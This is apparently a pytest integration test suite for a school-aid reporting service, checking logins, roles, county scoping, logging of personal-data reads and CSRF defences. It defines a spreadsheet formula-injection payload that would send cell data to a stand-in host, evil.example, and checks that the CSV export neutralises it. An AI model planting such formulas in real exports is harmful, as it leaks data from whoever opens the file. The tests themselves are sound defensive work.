"""Who reads the reports is proven: the projection service's HTTP API, served by uvicorn on a
real port over real PostgreSQL and NATS, with users, sessions and tokens in schema `access`.

One service for the module (starting one takes a few seconds); every test makes users of
its own. The read models hold students, a dropout alert, a roster revision and a shadowing
period with names, applied by the projections' own code from the published examples.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest

from contracts.envelope import EventEnvelope
from services.projection.app import ProjectionService, start_projection_service
from services.projection.read_models import routes
from services.projection.read_models.assistance.coverage import AidCoverageProjection
from services.projection.read_models.audit import AuditProjection
from services.projection.read_models.pairing.model import PairingProjection
from shared.accounts import credentials, users
from shared.servers import ServerEndpoints
from shared.settings import Settings
from shared.testing import Sandbox, create_sandbox, drop_sandbox, wait_for
from tests.e2e.conftest import free_port

pytestmark = pytest.mark.integration

EXAMPLES = Path(__file__).parents[2] / "contracts" / "examples"
TERM = "2017-autumn"
PILOT, OTHER = "610831", "610802"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
STUDENTS = {
    # student id -> (county, name, registry number)
    "28d38190-6eaf-46af-8f51-15d2cc26082c": (PILOT, "王芳", "G610831200405211120"),
    "5d1c7a3e-2b4f-4c6d-9e8f-0a1b2c3d4e5f": (PILOT, "李明", "G610831200609150031"),
    "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d": (OTHER, "赵强", "G610802200702020042"),
}
TEACHER = "李静"
PERSONAL = [TEACHER] + [text for _, *texts in STUDENTS.values() for text in texts]
ROUTE_PARAMS: dict[str, dict[str, str]] = {
    "/api/aid-catalogue": {"term": TERM},
    "/api/aid-coverage": {"term": TERM},
    "/api/aid-coverage/schools": {"term": TERM},
    "/api/aid-programmes": {"term": TERM},
    "/api/alerts": {"status": "all"},
    "/api/alerts/open-counts": {},
    "/api/audit/behind": {"figure": "aid-coverage", "term": TERM},
    "/api/audit/events": {"limit": "1000"},
    "/api/audit/export.csv": {},
    "/api/audit/figures": {},
    "/api/county": {"county": PILOT},
    "/api/county-plans": {},
    "/api/dropout-alerts": {"status": "all"},
    "/api/evaluation/balance": {"year": "2017"},
    "/api/evaluation/census": {"year": "2017"},
    "/api/evaluation/dual-high-dual-universal": {"year": "2017"},
    "/api/evaluation/evaluations": {},
    "/api/evaluation/high-school-projects": {},
    "/api/evaluation/institutions-without-visits": {"year": "2017"},
    "/api/evaluation/quality-activities": {"year": "2017"},
    "/api/evaluation/research-visits": {"year": "2017"},
    "/api/evaluation/titles": {},
    "/api/funding-requests": {},
    "/api/judged-on": {},
    "/api/pairing/county": {},
    "/api/pairing/pairs": {},
    "/api/pairing/shadowing": {},
    "/api/plan-progress": {},
    "/api/roster-revision": {"revision": "2018"},
    "/api/staffing/coverage": {"term": TERM},
    "/api/staffing/dispatch-plan": {},
    "/api/staffing/supply": {},
    "/api/staffing/training": {},
    "/api/students-missing-aid": {"term": TERM},
    "/api/university-dispatches": {},
    "/api/university-students": {"county": PILOT},
}


@dataclass
class Reporting:
    service: ProjectionService
    sandbox: Sandbox
    url: str

    @property
    def pool(self) -> asyncpg.Pool:
        return self.service.pool

    def client(self, token: str | None = None, **headers: str) -> httpx.AsyncClient:
        if token:
            headers["Authorization"] = f"Bearer {token}"
        return httpx.AsyncClient(base_url=self.url, headers=headers, timeout=30)

    async def user(
        self, *roles: str, counties: tuple[str, ...] = (), password: str = "a long password"
    ) -> str:
        name = f"u{uuid.uuid4().hex[:10]}"
        await users.add_user(self.pool, name, roles, counties, password)
        return name

    async def token(self, *roles: str, counties: tuple[str, ...] = ()) -> tuple[str, str]:
        """A new user with these roles, and a bearer token of theirs."""
        name = await self.user(*roles, counties=counties)
        secret, _ = await credentials.issue_token(self.pool, name, timedelta(days=1))
        return name, secret

    async def send(
        self, method: str, path: str, headers: dict[str, str], **request: Any
    ) -> httpx.Response:
        """One request from a client of its own (no cookie but the ones in `headers`)."""
        async with self.client(**headers) as client:
            return await client.request(method, path, **request)

    async def logged_in(self, name: str, password: str = "a long password") -> httpx.AsyncClient:
        """A browser-like client with the session cookie of a login through the form."""
        client = self.client(Origin=self.url)
        answer = await client.post("/login", data={"name": name, "password": password})
        assert answer.status_code == 303, answer.text
        return client

    async def cli(self, *args: str, token: str | None = None) -> subprocess.CompletedProcess[str]:
        """`eduplan ...` as its own process (in a thread: this loop serves its requests)."""
        env = {k: v for k, v in os.environ.items() if not k.startswith("EDUPLAN_")}
        env |= self.sandbox.env(EDUPLAN_REPORTING_URL=self.url, COLUMNS="200")
        if token:
            env["EDUPLAN_REPORTING_TOKEN"] = token
        return await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-m", "services.cli.main", *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )


def example(name: str, **changes: Any) -> EventEnvelope:
    """A published example event, with a fresh event id and the payload fields changed."""
    data = json.loads((EXAMPLES / f"{name}.json").read_text(encoding="utf-8"))
    payload = {**data["payload"], **changes.pop("payload", {})}
    return EventEnvelope.model_validate(
        {**data, "event_id": str(uuid.uuid4()), **changes, "payload": payload}
    )


def seed_events() -> tuple[list[EventEnvelope], list[EventEnvelope]]:
    """(assistance events, pairing events) with the people of STUDENTS and TEACHER."""
    aid = []
    for student_id, (county, name, registry) in STUDENTS.items():
        personal = {"name": name, "student_registry_id": registry}
        registered = example("assistance/events/StudentRegistered.v2", county=county)
        payload = {
            **registered.payload,
            "student_id": student_id,
            "county": county,
            "personal": {**registered.payload["personal"], **personal},
        }
        aid.append(registered.model_copy(update={"stream_id": student_id, "payload": payload}))
    aid.append(example("assistance/events/DropoutAlertRaised.v1"))
    formula = example("assistance/events/AidProgrammeSet.v1", actor=FORMULA)
    pairing = [
        example("pairing/events/PairEstablished.v1"),
        example("pairing/events/ShadowingRecorded.v1", payload={"personal": {"name": TEACHER}}),
    ]
    return [*aid, formula], pairing


@pytest.fixture(scope="module")
async def reporting(servers: ServerEndpoints) -> AsyncIterator[Reporting]:
    sandbox = await create_sandbox(servers.nats_url, servers.database_url)
    port = free_port()
    settings = Settings(
        nats_url=sandbox.nats_url,
        database_url=sandbox.database_url,
        namespace=sandbox.namespace,
        http_port=port,
    )
    service = await start_projection_service(settings)
    up = Reporting(service, sandbox, f"http://127.0.0.1:{port}")
    try:
        async with up.client() as client:

            async def answers() -> bool:
                try:
                    return (await client.get("/health")).status_code == 200
                except httpx.TransportError:
                    return False

            await wait_for(answers, timeout=30)
        aid, pairing = seed_events()
        async with up.pool.acquire() as conn, conn.transaction():
            await AidCoverageProjection().apply(conn, "reporting", aid)
            await PairingProjection().apply(conn, "reporting", pairing)
            await AuditProjection().apply(conn, "reporting", [*aid, *pairing])
        yield up
    finally:
        await service.close()
        await drop_sandbox(sandbox)


async def reads_of(pool: asyncpg.Pool, name: str) -> list[asyncpg.Record]:
    return await pool.fetch(
        "SELECT * FROM access.personal_data_reads WHERE user_name = $1 ORDER BY read_id", name
    )


async def test_anonymous_requests_are_refused_and_health_stays_open(reporting: Reporting) -> None:
    async with reporting.client() as anonymous:
        assert (await anonymous.get("/health")).json()["status"] == "ok"
        for path in ("/api/aid-coverage?term=2017-autumn", "/admin/projections", "/api/me"):
            refused = await anonymous.get(path)
            assert refused.status_code == 401, path
            assert refused.json()["error"] == "unauthenticated"
            assert refused.headers["www-authenticate"].startswith("Bearer")
        page = await anonymous.get("/?county=610831")
        assert page.status_code == 303
        assert page.headers["location"] == "/login?next=%2F%3Fcounty%3D610831"
        form = await anonymous.get("/login?next=/%3Fcounty%3D610831")
        assert form.status_code == 200
        assert 'name="password"' in form.text
        assert 'value="/?county=610831"' in form.text
        assert (await anonymous.get("/static/app.js")).status_code == 200
        assert (await anonymous.get("/static/style.css")).status_code == 200
        bogus = await anonymous.get(
            "/api/aid-coverage", headers={"Authorization": "Bearer nope", "Accept-Language": "en"}
        )
        assert bogus.status_code == 401
        assert "unknown, expired or revoked" in bogus.json()["message"]
        missing = await anonymous.get("/api/nothing-here")
        assert (missing.status_code, missing.json()["error"]) == (404, "not_found")


async def test_each_role_reaches_only_its_routes(reporting: Reporting) -> None:
    _, viewer = await reporting.token("province_viewer")
    _, operator = await reporting.token("operator")
    ghost = uuid.uuid4()
    await reporting.pool.execute(
        "INSERT INTO reporting.projection_dead_letters (projection, event_id, source, stream_id,"
        " version, event_type, envelope, error) VALUES ('ghost', $1, 'assistance', 's', 1,"
        " 'StudentRegistered', '{}', 'cannot read 王芳')",
        ghost,
    )
    try:
        async with reporting.client(viewer) as client:
            assert (await client.get("/api/aid-coverage", params={"term": TERM})).status_code == 200
            for path in ("/admin/projections", "/admin/access-log"):
                refused = await client.get(path)
                assert (refused.status_code, refused.json()["error"]) == (403, "forbidden"), path
            retry = await client.post("/admin/projections/retry-dead-letters")
            assert retry.status_code == 403
            letters = (await client.get("/api/dead-letters")).json()
        assert letters["count"] == 1
        assert set(letters["dead_letters"][0]) == {
            "projection",
            "event_type",
            "attempts",
            "failed_at",
        }, "the banner's counts, not the error nor the stream"
        async with reporting.client(operator) as client:
            assert (await client.get("/admin/projections")).status_code == 200
            full = (await client.get("/api/dead-letters")).json()
            assert full["dead_letters"][0]["error"] == "cannot read 王芳"
            refused = await client.get("/api/aid-coverage", params={"term": TERM, "lang": "en"})
            assert refused.status_code == 403
            assert "no viewer role" in refused.json()["message"]
            chinese = await client.get("/api/aid-coverage", params={"term": TERM})
            assert (chinese.status_code, chinese.json()["error"]) == (403, "forbidden")
            assert "没有查看角色" in chinese.json()["message"], "Chinese by default"
            bad = await client.get("/admin/access-log", params={"limit": "0"})
            assert (bad.status_code, bad.json()["error"]) == (400, "bad_request")
    finally:
        await reporting.pool.execute(
            "DELETE FROM reporting.projection_dead_letters WHERE event_id = $1", ghost
        )


async def test_a_county_viewer_reads_only_their_county_never_another_nor_the_province(
    reporting: Reporting,
) -> None:
    _, pilot_only = await reporting.token("county_viewer", counties=(PILOT,))
    _, two_counties = await reporting.token("county_viewer", counties=(PILOT, OTHER))

    async with reporting.client(pilot_only) as client:
        other = await client.get(
            "/api/students-missing-aid", params={"term": TERM, "county": OTHER}
        )
        assert (other.status_code, other.json()["error"]) == (403, "forbidden_county")
        own = await client.get("/api/students-missing-aid", params={"term": TERM})
        assert own.status_code == 200
        assert {r["county"] for r in own.json()} == {PILOT}
        assert len(own.json()) == 2
        coverage = await client.get("/api/aid-coverage", params={"term": TERM})
        assert sum(r["registered"] for r in coverage.json()) == 2, "the county, not the province"
        events = (await client.get("/api/audit/events", params={"limit": "1000"})).json()
        assert events["count"] > 0
        assert {e["county"] for e in events["events"]} == {PILOT}
        catalogue = await client.get("/api/aid-catalogue", params={"term": TERM})
        assert catalogue.status_code == 200
        me = (await client.get("/api/me")).json()
        assert (me["roles"], me["counties"], me["via"]) == (["county_viewer"], [PILOT], "token")
    async with reporting.client(two_counties) as client:
        province = await client.get("/api/aid-coverage", params={"term": TERM})
        assert (province.status_code, province.json()["error"]) == (403, "county_required")
        other = await client.get("/api/aid-coverage", params={"term": TERM, "county": OTHER})
        assert sum(r["registered"] for r in other.json()) == 1


async def test_personal_fields_are_shown_to_readers_only_and_each_read_is_logged(
    reporting: Reporting,
) -> None:
    viewer, viewer_token = await reporting.token("province_viewer")
    reader, reader_token = await reporting.token("province_viewer", "personal_data_reader")
    _, operator_token = await reporting.token("operator")
    asked = {"term": TERM, "county": PILOT}

    async with reporting.client(viewer_token) as client:
        hidden = await client.get("/api/students-missing-aid", params=asked)
    assert hidden.headers["eduplan-personal-data"] == "hidden"
    assert len(hidden.json()) == 2
    assert all(r["name"] is None and r["registry_id"] is None for r in hidden.json())
    assert all(r["student_id"] in STUDENTS for r in hidden.json())
    assert await reads_of(reporting.pool, viewer) == []

    async with reporting.client(reader_token) as client:
        shown = await client.get("/api/students-missing-aid", params=asked)
        alerts = await client.get("/api/dropout-alerts", params={"status": "all"})
    assert shown.headers["eduplan-personal-data"] == "shown"
    assert {(r["name"], r["registry_id"]) for r in shown.json()} == {
        (name, registry) for county, name, registry in STUDENTS.values() if county == PILOT
    }
    assert [a["name"] for a in alerts.json()] == ["王芳"]
    reads = await reads_of(reporting.pool, reader)
    assert [(r["route"], r["via"], r["rows"]) for r in reads] == [
        ("/api/students-missing-aid", "token", 2),
        ("/api/dropout-alerts", "token", 1),
    ]
    assert (
        json.loads(
            await reporting.pool.fetchval(
                "SELECT params::text FROM access.personal_data_reads WHERE read_id = $1",
                reads[0]["read_id"],
            )
        )
        == asked
    ), "stored as a JSON object"

    async with reporting.client(operator_token) as client:
        log = (await client.get("/admin/access-log", params={"user": reader})).json()
    assert [(r["user"], r["route"], r["rows"]) for r in log["reads"]] == [
        (reader, "/api/dropout-alerts", 1),
        (reader, "/api/students-missing-aid", 2),
    ]
    assert log["reads"][1]["params"] == asked


async def test_no_report_shows_a_name_or_registry_number_to_a_viewer_without_the_role(
    reporting: Reporting,
) -> None:
    assert set(ROUTE_PARAMS) == set(routes()), "every report route is checked here"
    _, viewer = await reporting.token("province_viewer")
    _, reader = await reporting.token("province_viewer", "personal_data_reader")

    async def bodies(token: str) -> dict[str, str]:
        answers = {}
        async with reporting.client(token) as client:
            for path, params in ROUTE_PARAMS.items():
                response = await client.get(path, params=params)
                assert response.status_code == 200, (path, response.text)
                answers[path] = response.content.decode()
        return answers

    for path, body in (await bodies(viewer)).items():
        assert not [p for p in PERSONAL if p in body], path
    shown = {
        path for path, body in (await bodies(reader)).items() if any(p in body for p in PERSONAL)
    }
    assert shown == {
        "/api/students-missing-aid",
        "/api/dropout-alerts",
        "/api/roster-revision",
        "/api/pairing/shadowing",
    }, "the seeded people are in the read models, and only these routes name them"


async def test_a_login_sets_a_strict_http_only_cookie_whose_hash_alone_is_kept(
    reporting: Reporting,
) -> None:
    name = await reporting.user("province_viewer", password="correct horse battery")
    stored = await reporting.pool.fetchval(
        "SELECT password_hash FROM access.users WHERE name = $1", name
    )
    assert stored.startswith("$argon2id$")
    assert "correct horse battery" not in stored

    async with reporting.client(Origin=reporting.url) as browser:
        wrong = await browser.post("/login", data={"name": name, "password": "guess"})
        assert wrong.status_code == 401
        assert "用户名或密码错误" in wrong.text, "Chinese unless the browser asks otherwise"
        english = await browser.post(
            "/login",
            data={"name": name, "password": "guess"},
            headers={"Accept-Language": "en-US,en;q=0.9"},
        )
        assert "Wrong user name or password" in english.text
        assert "set-cookie" not in wrong.headers
        forged = await browser.post("/login", data={"name": '"><b>x', "password": "guess"})
        assert 'value="&quot;&gt;&lt;b&gt;x"' in forged.text, "what was typed is escaped"
        login = await browser.post(
            "/login",
            data={"name": name, "password": "correct horse battery", "next": "/?county=610831"},
        )
        assert (login.status_code, login.headers["location"]) == (303, "/?county=610831")
        cookie = login.headers["set-cookie"]
        assert "HttpOnly" in cookie
        assert "SameSite=strict" in cookie
        assert "Secure" not in cookie, "plain HTTP: a Secure cookie would never come back"
        secret = browser.cookies["eduplan_session"]
        kept = await reporting.pool.fetch(
            "SELECT token_hash, expires_at - created_at AS lasts FROM access.sessions"
            " WHERE user_name = $1",
            name,
        )
        assert [bytes(r["token_hash"]) for r in kept] == [hashlib.sha256(secret.encode()).digest()]
        assert kept[0]["lasts"] == timedelta(hours=12)
        me = await browser.get("/api/me")
        assert (me.json()["user"], me.json()["via"]) == (name, "session")
        assert (await browser.get("/")).status_code == 200

        out = await browser.post("/logout")
        assert (out.status_code, out.headers["location"]) == (303, "/login")
        ended = await reporting.send("GET", "/api/me", {"Cookie": f"eduplan_session={secret}"})
        assert ended.status_code == 401
    assert not await reporting.pool.fetchval(
        "SELECT count(*) FROM access.sessions WHERE user_name = $1", name
    )


async def test_cross_site_posts_are_refused_and_nothing_is_rebuilt(reporting: Reporting) -> None:
    operator = await reporting.user("operator")
    browser = await reporting.logged_in(operator)

    async def rebuild_of(projection: str) -> Any:
        status = (await browser.get("/admin/projections")).json()
        return next(r["rebuild"] for r in status if r["projection"] == projection)

    bare = httpx.AsyncClient(base_url=reporting.url, cookies=browser.cookies)
    for client, headers in (
        (browser, {"Origin": "https://evil.example"}),
        (browser, {"Origin": "null"}),
        (bare, {"Referer": "http://evil.example/page"}),
        (bare, {}),
    ):
        for path in ("/admin/projections/rebuild", "/admin/projections/retry-dead-letters"):
            refused = await client.post(path, params={"projection": "alerts"}, headers=headers)
            assert refused.status_code == 403, (path, headers)
            assert refused.json()["error"] == "cross_site_request"
    assert await rebuild_of("alerts") is None
    assert not await reporting.pool.fetchval(
        "SELECT 1 FROM pg_namespace WHERE nspname = 'rebuild_alerts'"
    )
    cross_login = await reporting.send(
        "POST",
        "/login",
        {"Origin": "https://evil.example"},
        data={"name": operator, "password": "a long password"},
    )
    assert cross_login.status_code == 403

    same = await browser.post("/admin/projections/rebuild", params={"projection": "alerts"})
    assert same.status_code == 200
    assert same.json()["projection"] == "alerts"

    async def rebuilt() -> bool:
        return (await rebuild_of("alerts"))["state"] == "done"

    await wait_for(rebuilt, timeout=30)
    _, token = await reporting.token("operator")
    async with reporting.client(token) as script:
        retried = await script.post("/admin/projections/retry-dead-letters")
    assert retried.status_code == 200, "a bearer token needs no Origin"
    assert retried.json()["alerts"] == {"applied": 0, "still_dead": 0}
    await browser.aclose()
    await bare.aclose()


async def test_disabled_users_and_revoked_or_expired_tokens_are_refused(
    reporting: Reporting,
) -> None:
    name, token = await reporting.token("province_viewer")
    browser = await reporting.logged_in(name)
    async with reporting.client(token) as script:
        assert (await script.get("/api/me")).status_code == 200

        await users.set_disabled(reporting.pool, name, True)
        assert (await script.get("/api/me")).status_code == 401
        assert (await browser.get("/api/me")).status_code == 401
        again = await browser.post("/login", data={"name": name, "password": "a long password"})
        assert again.status_code == 401, "a disabled user cannot log in"

        await users.set_disabled(reporting.pool, name, False)
        assert (await script.get("/api/me")).status_code == 200
        (issued,) = await credentials.tokens_of(reporting.pool, name)
        await credentials.revoke_token(reporting.pool, issued.token_id)
        assert (await script.get("/api/me")).status_code == 401

    expiring, _ = await credentials.issue_token(reporting.pool, name, timedelta(seconds=-1))
    async with reporting.client(expiring) as script:
        assert (await script.get("/api/me")).status_code == 401
    await browser.aclose()


async def test_the_audit_export_neutralises_a_formula_over_http_and_through_the_cli(
    reporting: Reporting, tmp_path: Path
) -> None:
    _, token = await reporting.token("province_viewer")
    async with reporting.client(token) as client:
        export = await client.get("/api/audit/export.csv", params={"actor": FORMULA})
    assert export.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert row["actor"] == "'" + FORMULA
    assert row["event_type"] == "AidProgrammeSet"

    written = tmp_path / "audit.csv"
    done = await reporting.cli("audit", "export", str(written), "--actor", FORMULA, token=token)
    assert done.returncode == 0, done.stderr
    (row,) = list(csv.DictReader(io.StringIO(written.read_text(encoding="utf-8-sig"))))
    assert row["actor"] == "'" + FORMULA


async def test_the_cli_reads_reports_with_its_token_and_a_refusal_is_one_clear_line(
    reporting: Reporting,
) -> None:
    reader, reader_token = await reporting.token("province_viewer", "personal_data_reader")
    _, county_token = await reporting.token("county_viewer", counties=(OTHER,))
    report = ("report", "missing-aid", "--term", TERM, "--county", PILOT, "--json")

    shown = await reporting.cli(*report, token=reader_token)
    assert shown.returncode == 0, shown.stderr
    assert {r["name"] for r in json.loads(shown.stdout)} == {"王芳", "李明"}
    assert [r["route"] for r in await reads_of(reporting.pool, reader)] == [
        "/api/students-missing-aid"
    ]
    logged = await reporting.cli("users", "access-log", "--user", reader, "--json")
    assert logged.returncode == 0, logged.stderr
    (read,) = json.loads(logged.stdout)["reads"]
    assert (read["route"], read["rows"], read["params"]["county"]) == (
        "/api/students-missing-aid",
        2,
        PILOT,
    )

    for token, status in ((None, "401"), ("ept_not-a-token", "401"), (county_token, "403")):
        refused = await reporting.cli(*report, token=token)
        assert refused.returncode == 2, refused.stderr
        lines = refused.stderr.strip().splitlines()
        assert len(lines) == 1, refused.stderr
        assert lines[0].startswith("error: ")
        assert f"({status})" in lines[0]
        assert "Traceback" not in refused.stderr
    assert "EDUPLAN_REPORTING_TOKEN" in (await reporting.cli(*report)).stderr
    assert f"不能查看 {PILOT}" in (await reporting.cli(*report, token=county_token)).stderr
    english = await reporting.cli(*report, "--lang", "en", token=county_token)
    assert f"not {PILOT}" in english.stderr, "the server answers in the language the CLI speaks"


async def test_the_users_commands_manage_accounts_and_tokens_in_postgres(
    reporting: Reporting,
) -> None:
    name = f"clerk{uuid.uuid4().hex[:6]}"
    added = await reporting.cli(
        "users", "add", name, "--role", "county_viewer", "--county", PILOT, "--generate-password"
    )
    assert added.returncode == 0, added.stderr
    password = added.stdout.split("password (shown once): ")[1].split()[0]
    browser = await reporting.logged_in(name, password)
    assert (await browser.get("/api/me")).json()["counties"] == [PILOT]
    await browser.aclose()

    issued = await reporting.cli("users", "token", name, "--expires-days", "7", "--json")
    assert issued.returncode == 0, issued.stderr
    token = json.loads(issued.stdout)
    async with reporting.client(token["token"]) as script:
        assert (await script.get("/api/me")).json()["user"] == name
        listed = json.loads((await reporting.cli("users", "list", "--json")).stdout)
        assert {"name": name, "active_tokens": 1, "disabled": False}.items() <= next(
            u for u in listed if u["name"] == name
        ).items()
        kept = await reporting.pool.fetchval(
            "SELECT count(*) FROM access.tokens WHERE token_hash = $1",
            hashlib.sha256(token["token"].encode()).digest(),
        )
        assert kept == 1
        revoked = await reporting.cli("users", "revoke-token", token["token_id"])
        assert revoked.returncode == 0, revoked.stderr
        assert (await script.get("/api/me")).status_code == 401

    refused = await reporting.cli(
        "users", "add", name, "--role", "province_viewer", "--generate-password"
    )
    assert refused.returncode == 2
    assert f"user {name} exists already" in refused.stderr
    wrong = await reporting.cli("users", "add", "x" + name, "--role", "county_viewer")
    assert wrong.returncode == 2
    assert "needs --county" in wrong.stderr
    assert not await users.exists(reporting.pool, "x" + name)
    assert (await reporting.cli("users", "disable", name)).returncode == 0
    login = await reporting.send(
        "POST", "/login", {"Origin": reporting.url}, data={"name": name, "password": password}
    )
    assert login.status_code == 401
